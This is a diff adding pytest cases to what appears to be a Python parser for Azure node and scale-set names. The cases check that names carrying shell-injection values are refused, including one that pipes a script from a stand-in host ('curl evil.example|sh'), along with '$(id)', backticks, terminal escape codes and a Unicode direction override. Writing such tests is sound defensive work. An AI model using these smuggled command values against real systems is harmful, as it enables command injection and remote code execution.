@@ -54,3 +54,30 @@ def test_what_is_no_id_of_a_host_is_refused_with_a_reason(text: str) -> None:
 def test_what_is_no_node_of_azure_is_refused_with_a_reason(provider_id: str) -> None:
     with pytest.raises(NotAnAzureNode, match="names no"):
         Host.of_node(provider_id)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "pool;curl evil.example|sh",
+        "pool$(id)",
+        "pool`id`",
+        "pool --ids x",
+        "pool\x1b[2Jgone",
+        "pool\nok",
+        "pool\u202eoops",
+        "pool'x",
+        "..",
+        "p" * 129,
+    ],
+)
+@pytest.mark.parametrize("place", ["aks-pool-vmss", "MC_g"])
+def test_what_a_shell_or_a_terminal_obeys_is_no_name_of_a_machine(name: str, place: str) -> None:
+    with pytest.raises(NotAnAzureNode, match="names no"):
+        Host.parse(SET.replace(place, name))
+    with pytest.raises(NotAnAzureNode, match="names no"):
+        Host.of_node(f"azure://{SET.replace(place, name)}/virtualMachines/3")
+
+
+def test_a_resource_group_may_have_letters_of_any_script() -> None:
+    assert Host.parse(SET.replace("MC_g", "MC_größe(1)")).group == "mc_größe(1)"
